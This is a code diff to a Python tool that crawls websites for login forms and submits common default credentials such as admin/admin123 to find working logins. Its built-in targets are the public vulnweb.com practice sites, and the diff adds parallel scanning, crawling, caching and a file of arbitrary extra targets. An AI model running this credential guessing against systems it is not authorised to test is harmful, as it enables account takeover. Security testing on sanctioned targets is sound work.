@@ -4,60 +4,229 @@ Target Scanner for Brute Force Testing
 Automatically detects login forms and tests configurations for various vulnerable web applications
 """
 
+import argparse
+import hashlib
+import json
+import os
 import requests
+from requests.adapters import HTTPAdapter
+import threading
 import yaml
 import re
-from urllib.parse import urljoin, urlparse
-from bs4 import BeautifulSoup
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urljoin, urlparse, urldefrag
+from bs4 import BeautifulSoup, SoupStrainer
 import time
 
+# lxml parses several times faster than the pure-Python html.parser
+try:
+    import lxml  # noqa: F401
+    HTML_PARSER = 'lxml'
+except ImportError:
+    HTML_PARSER = 'html.parser'
+
+# Only build the tags the scanner looks at; links are only needed while crawling
+FORM_TAGS = SoupStrainer(['form', 'input'])
+CRAWL_TAGS = SoupStrainer(['form', 'input', 'a'])
+# Links that probably lead to a login page are followed first
+LOGIN_LINK_KEYWORDS = ('login', 'signin', 'sign-in', 'logon', 'auth', 'account', 'user')
+DEFAULT_CACHE_FILE = 'scan_cache.json'
+
+class ScanCache:
+    """Per-page results of earlier scans, kept in a JSON file.
+
+    Each entry holds the page's ETag/Last-Modified, a hash of its login forms,
+    the config they produced (None if none worked) and, for crawled pages, its links.
+    """
+    def __init__(self, path=DEFAULT_CACHE_FILE):
+        self.path = path
+        self._lock = threading.Lock()
+        self.entries = {}
+        if path and os.path.exists(path):
+            try:
+                with open(path, 'r') as f:
+                    self.entries = json.load(f)
+            except (OSError, ValueError) as e:
+                print(f"[!] Ignoring unreadable scan cache {path}: {e}")
+
+    def get(self, url):
+        with self._lock:
+            return self.entries.get(url)
+
+    def put(self, url, entry):
+        with self._lock:
+            self.entries[url] = entry
+
+    def save(self):
+        if not self.path:
+            return
+        with self._lock:
+            data = json.dumps(self.entries, indent=2, sort_keys=True)
+        tmp = self.path + '.tmp'
+        with open(tmp, 'w') as f:
+            f.write(data)
+        os.replace(tmp, self.path)
+
+def form_hash(forms):
+    """Hash of what the scanner uses from the login forms: action, method and input names/types"""
+    structure = [
+        [form.get('action', ''), form.get('method', 'get').lower(),
+         [[inp.get('name', ''), inp.get('type', '').lower()] for inp in form.find_all('input')]]
+        for form in forms
+    ]
+    return hashlib.sha1(json.dumps(structure).encode()).hexdigest()
+
 class TargetScanner:
-    def __init__(self):
+    def __init__(self, workers=8, depth=1, max_pages=20, probe_delay=0.5, timeout=10, cache=None, refresh=False):
+        self.workers = workers
+        self.cache = cache
+        self.refresh = refresh
+        self.depth = depth
+        self.max_pages = max_pages
+        self.probe_delay = probe_delay
+        self.timeout = timeout
         self.session = requests.Session()
+        # One pooled connection per worker thread
+        adapter = HTTPAdapter(pool_connections=max(1, workers), pool_maxsize=max(1, workers))
+        self.session.mount('http://', adapter)
+        self.session.mount('https://', adapter)
         self.session.headers.update({
             'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'
         })
+        self._local = threading.local()
+    
+    def log(self, message):
+        """Print now, or buffer until the target is done when scanning several in parallel"""
+        lines = getattr(self._local, 'lines', None)
+        if lines is None:
+            print(message)
+        else:
+            lines.append(message)
+    
+    def scan_targets(self, targets):
+        """Scan {name: base_url} targets concurrently; returns {name: config} for those that worked"""
+        def scan(name, url):
+            self._local.lines = []
+            try:
+                return self.scan_target(url)
+            finally:
+                print('\n'.join(self._local.lines))
+                self._local.lines = None
+        
+        with ThreadPoolExecutor(max_workers=max(1, self.workers), thread_name_prefix='scan') as pool:
+            futures = {name: pool.submit(scan, name, url) for name, url in targets.items()}
+        return {name: future.result() for name, future in futures.items() if future.result()}
+    
+    def fetch_page(self, url, crawl, cached=None):
+        """GET a page and parse just its forms (and links when crawl is set).
+
+        With a cached entry the GET is conditional; returns (response, soup), where
+        soup is None for a 304 or anything that is not an HTML page.
+        """
+        headers = {}
+        if cached and (not crawl or 'links' in cached):
+            if cached.get('etag'):
+                headers['If-None-Match'] = cached['etag']
+            if cached.get('last_modified'):
+                headers['If-Modified-Since'] = cached['last_modified']
+        response = self.session.get(url, headers=headers, timeout=self.timeout)
+        if response.status_code != 200 or 'html' not in response.headers.get('Content-Type', 'text/html'):
+            return response, None
+        return response, BeautifulSoup(response.content, HTML_PARSER, parse_only=CRAWL_TAGS if crawl else FORM_TAGS)
+    
+    def check_page(self, page_url, crawl):
+        """Login config and links (when crawl is set) of one page, reusing the cache when it is unchanged"""
+        cached = None if self.cache is None or self.refresh else self.cache.get(page_url)
+        response, soup = self.fetch_page(page_url, crawl, cached)
+        if response.status_code == 304 and cached:
+            self.log(f"[=] Not modified since last scan: {page_url}")
+            return cached.get('config'), cached.get('links', [])
+        if soup is None:
+            self.log(f"[!] Failed to access {page_url}")
+            return None, []
+        
+        login_forms = [form for form in soup.find_all('form') if self.is_login_form(form)]
+        digest = form_hash(login_forms)
+        links = self.page_links(soup, page_url, urlparse(page_url).netloc) if crawl else []
+        if cached and cached.get('form_hash') == digest:
+            # Page changed, but not its login forms: the earlier probes still hold
+            self.log(f"[=] Login forms unchanged since last scan: {page_url}")
+            config = cached.get('config')
+        else:
+            config = self.scan_page(login_forms, page_url)
+        
+        if self.cache is not None:
+            entry = {
+                'etag': response.headers.get('ETag'),
+                'last_modified': response.headers.get('Last-Modified'),
+                'form_hash': digest,
+                'config': config,
+            }
+            if crawl:
+                entry['links'] = links
+            self.cache.put(page_url, entry)
+        return config, links
+    
+    def page_links(self, soup, page_url, host):
+        """Same-host links on a page, likely login pages first"""
+        links = []
+        for a in soup.find_all('a', href=True):
+            url = urldefrag(urljoin(page_url, a['href']))[0]
+            if urlparse(url).scheme in ('http', 'https') and urlparse(url).netloc == host:
+                links.append(url)
+        return sorted(dict.fromkeys(links), key=lambda url: not any(k in url.lower() for k in LOGIN_LINK_KEYWORDS))
     
     def scan_target(self, base_url):
-        """Scan a target website to find login forms and test configurations"""
-        print(f"\n[+] Scanning target: {base_url}")
+        """Scan a target website to find login forms and test configurations.
+
+        Pages linked from base_url are followed up to self.depth levels deep
+        (same host only, at most self.max_pages pages) until a working form is found.
+        """
+        self.log(f"\n[+] Scanning target: {base_url}")
+        seen = {base_url}
+        level = [base_url]
+        pages = 0
         
         try:
-            # Get the main page
-            response = self.session.get(base_url, timeout=10)
-            if response.status_code != 200:
-                print(f"[!] Failed to access {base_url}")
-                return None
-            
-            # Parse the page
-            soup = BeautifulSoup(response.text, 'html.parser')
-            
-            # Find all forms
-            forms = soup.find_all('form')
-            login_forms = []
-            
-            for form in forms:
-                if self.is_login_form(form):
-                    login_forms.append(form)
-            
-            if not login_forms:
-                print(f"[!] No login forms found on {base_url}")
-                return None
-            
-            print(f"[+] Found {len(login_forms)} potential login form(s)")
-            
-            # Test each login form
-            for i, form in enumerate(login_forms):
-                print(f"\n[+] Testing login form {i+1}:")
-                config = self.analyze_login_form(form, base_url)
-                if config:
-                    return config
+            for depth in range(self.depth + 1):
+                next_level = []
+                for page_url in level:
+                    if pages >= self.max_pages:
+                        break
+                    pages += 1
+                    config, links = self.check_page(page_url, depth < self.depth)
+                    if config:
+                        return config
+                    for link in links:
+                        if link not in seen:
+                            seen.add(link)
+                            next_level.append(link)
+                level = next_level
+                if not level:
+                    break
             
+            self.log(f"[!] No working login form found on {base_url} ({pages} page(s) scanned)")
             return None
             
         except Exception as e:
-            print(f"[!] Error scanning {base_url}: {e}")
+            self.log(f"[!] Error scanning {base_url}: {e}")
+            return None
+    
+    def scan_page(self, login_forms, page_url):
+        """Test the login forms of one page; returns the first working config"""
+        if not login_forms:
             return None
+        
+        self.log(f"[+] Found {len(login_forms)} potential login form(s) on {page_url}")
+        
+        # Test each login form
+        for i, form in enumerate(login_forms):
+            self.log(f"\n[+] Testing login form {i+1}:")
+            config = self.analyze_login_form(form, page_url)
+            if config:
+                return config
+        
+        return None
     
     def is_login_form(self, form):
         """Check if a form is likely a login form"""
@@ -95,12 +264,12 @@ class TargetScanner:
                 password_field = input_name
         
         if not username_field or not password_field:
-            print(f"[!] Could not identify username/password fields")
+            self.log(f"[!] Could not identify username/password fields")
             return None
         
-        print(f"[+] Form URL: {form_url}")
-        print(f"[+] Username field: {username_field}")
-        print(f"[+] Password field: {password_field}")
+        self.log(f"[+] Form URL: {form_url}")
+        self.log(f"[+] Username field: {username_field}")
+        self.log(f"[+] Password field: {password_field}")
         
         # Test with common credentials
         config = self.test_login_config(form_url, username_field, password_field, method)
@@ -118,25 +287,25 @@ class TargetScanner:
             ('admin', 'admin123')
         ]
         
-        print(f"[+] Testing login with common credentials...")
+        self.log(f"[+] Testing login with common credentials...")
         
         for username, password in test_credentials:
             try:
                 data = {username_field: username, password_field: password}
                 
                 if method == 'post':
-                    response = self.session.post(url, data=data, timeout=10)
+                    response = self.session.post(url, data=data, timeout=self.timeout)
                 else:
-                    response = self.session.get(url, params=data, timeout=10)
+                    response = self.session.get(url, params=data, timeout=self.timeout)
                 
                 # Analyze response for success/failure indicators
                 success_indicators = self.detect_success_indicators(response)
                 failure_indicators = self.detect_failure_indicators(response)
                 
                 if success_indicators:
-                    print(f"[+] SUCCESS with {username}:{password}")
-                    print(f"[+] Success indicators: {success_indicators}")
-                    print(f"[+] Failure indicators: {failure_indicators}")
+                    self.log(f"[+] SUCCESS with {username}:{password}")
+                    self.log(f"[+] Success indicators: {success_indicators}")
+                    self.log(f"[+] Failure indicators: {failure_indicators}")
                     
                     return {
                         'url': url,
@@ -151,13 +320,14 @@ class TargetScanner:
                         'progress_interval': 10
                     }
                 
-                time.sleep(0.5)  # Small delay between requests
+                if self.probe_delay > 0:
+                    time.sleep(self.probe_delay)  # Small delay between requests to the same target
                 
             except Exception as e:
-                print(f"[!] Error testing {username}:{password} - {e}")
+                self.log(f"[!] Error testing {username}:{password} - {e}")
                 continue
         
-        print(f"[!] No successful login found with common credentials")
+        self.log(f"[!] No successful login found with common credentials")
         return None
     
     def detect_success_indicators(self, response):
@@ -191,6 +361,16 @@ class TargetScanner:
         return indicators
 
 def main():
+    parser = argparse.ArgumentParser(description="Detect login forms and working configurations on known targets")
+    parser.add_argument('--targets-file', help='Also scan the url of every entry in this targets_config.yaml-style file', default=None)
+    parser.add_argument('--workers', type=int, help='Targets scanned at the same time (default: 8)', default=8)
+    parser.add_argument('--depth', type=int, help='Follow same-host links this many pages deep looking for login forms (default: 1)', default=1)
+    parser.add_argument('--max-pages', type=int, help='Pages fetched per target at most (default: 20)', default=20)
+    parser.add_argument('--probe-delay', type=float, help='Seconds between credential probes against one target (default: 0.5)', default=0.5)
+    parser.add_argument('--cache-file', help=f'Results of earlier scans, revalidated with conditional GETs (default: {DEFAULT_CACHE_FILE})', default=DEFAULT_CACHE_FILE)
+    parser.add_argument('--refresh', action='store_true', help='Ignore the scan cache and analyze and probe every page again')
+    args = parser.parse_args()
+    
     # List of known vulnerable web applications
     targets = {
         'testphp.vulnweb.com': 'http://testphp.vulnweb.com/',
@@ -199,19 +379,22 @@ def main():
         'testaspnet.vulnweb.com': 'http://testaspnet.vulnweb.com/',
         'rest.vulnweb.com': 'http://rest.vulnweb.com/'
     }
+    if args.targets_file:
+        with open(args.targets_file, 'r') as f:
+            targets.update({name: config['url'] for name, config in (yaml.safe_load(f) or {}).items() if config.get('url')})
     
-    scanner = TargetScanner()
-    configurations = {}
+    cache = ScanCache(args.cache_file)
+    scanner = TargetScanner(args.workers, args.depth, args.max_pages, args.probe_delay, cache=cache, refresh=args.refresh)
     
     print("[+] Target Scanner for Brute Force Testing")
-    print("[+] Scanning known vulnerable web applications...")
+    print(f"[+] Scanning {len(targets)} targets, {args.workers} at a time (HTML parser: {HTML_PARSER})...")
     
-    for name, url in targets.items():
-        config = scanner.scan_target(url)
-        if config:
-            configurations[name] = config
-            print(f"\n[+] Configuration for {name}:")
-            print(yaml.dump(config, default_flow_style=False))
+    started = time.monotonic()
+    configurations = scanner.scan_targets(targets)
+    cache.save()
+    for name, config in configurations.items():
+        print(f"\n[+] Configuration for {name}:")
+        print(yaml.dump(config, default_flow_style=False))
     
     # Save configurations
     if configurations:
@@ -219,7 +402,7 @@ def main():
             yaml.dump(configurations, f, default_flow_style=False)
         print(f"\n[+] Saved {len(configurations)} configurations to auto_detected_configs.yaml")
     
-    print(f"\n[+] Scan complete. Found {len(configurations)} working configurations.")
+    print(f"\n[+] Scan complete in {time.monotonic() - started:.1f}s. Found {len(configurations)} working configurations.")
 
 if __name__ == "__main__":
     main() 
\ No newline at end of file